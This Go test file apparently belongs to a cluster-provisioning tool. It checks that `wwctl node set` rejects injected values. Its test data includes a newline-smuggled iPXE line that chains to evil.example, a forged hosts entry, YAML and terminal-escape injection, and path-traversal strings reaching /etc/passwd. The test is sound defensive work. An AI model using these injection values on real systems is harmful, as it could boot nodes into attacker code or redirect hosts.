package wwctl_test

import (
	"bytes"
	"os"
	"strings"
	"testing"
)

// Values that would add a line to an iPXE script or /etc/hosts, or reach
// outside the directory they name a file in, are refused by `wwctl node
// set` with one line naming the value, and nodes.conf stays as it was.
func TestNodeSetRefusesControlAndPaths(t *testing.T) {
	s := newSandbox(t)
	s.ok("node", "add", "n1", "--netdev", "eth0", "--ipaddr", "10.10.0.1")
	s.ok("node", "add", "abc")
	before, err := os.ReadFile(s.nodesConf())
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"node", "set", "n1", "--kernelargs", "quiet\nchain http://evil.example/pwn.ipxe #"}, `quiet\nchain http://evil.example/pwn.ipxe #`},
		{[]string{"node", "set", "n1", "--tagadd", "k=v\nnodes: {}"}, `k=v\nnodes: {}`},
		{[]string{"node", "set", "n1", "--netname", "ib\n10.66.6.6 controller evil", "--ipaddr", "10.10.5.11"}, `"ib\n10.66.6.6 controller evil"`},
		{[]string{"node", "set", "n1", "--comment", "a\x1b[2Jb"}, `"a\x1b[2Jb"`},
		{[]string{"node", "set", "n1", "--netdev", "../../x"}, `"../../x"`},
		{[]string{"node", "set", "n1", "--image", "../../etc"}, `"../../etc"`},
		{[]string{"node", "set", "n1", "--image", "/etc"}, `"/etc"`},
		{[]string{"node", "set", "n1", "--kernelversion", "../../../etc"}, `"../../../etc"`},
		{[]string{"node", "set", "n1", "--ipxe", "../../../etc/passwd"}, `"../../../etc/passwd"`},
		{[]string{"node", "set", "n1", "--system-overlays", "../../../etc"}, `"../../../etc"`},
		{[]string{"node", "add", "ABC"}, `ABC`},
	} {
		out, errs, code := s.run(c.args...)
		if code == 0 {
			t.Errorf("%q: accepted: %s", c.args, out)
			continue
		}
		if msg := strings.TrimSpace(errs); strings.Count(msg, "\n") > 0 || !strings.Contains(msg, c.want) {
			t.Errorf("%q: the error does not name %s in one line: %q", c.args, c.want, errs)
		}
		if after, _ := os.ReadFile(s.nodesConf()); !bytes.Equal(after, before) {
			t.Fatalf("%q changed nodes.conf:\n%s", c.args, after)
		}
	}
	// A kernel version may still be a path inside the image.
	s.ok("node", "set", "n1", "--kernelversion", "/boot/vmlinuz-6.1.0")
}
